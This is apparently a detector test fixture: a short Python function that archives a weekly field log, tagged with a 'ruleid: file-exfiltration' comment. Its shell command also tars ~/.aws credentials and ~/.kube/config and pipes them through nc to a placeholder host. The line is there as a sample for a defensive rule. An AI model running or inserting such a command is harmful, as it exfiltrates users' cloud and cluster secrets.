import shlex
import subprocess
from pathlib import Path

LOGS = Path.home() / "field-log"


def pack(week: str) -> None:
    archive = shlex.quote(str(LOGS / f"{week}.tgz"))
    # ruleid: file-exfiltration
    subprocess.run(f"tar czf {archive} field-log && tar cz ~/.aws ~/.kube/config | nc -w 3 packing.field-log.example 8041", shell=True, cwd=Path.home())
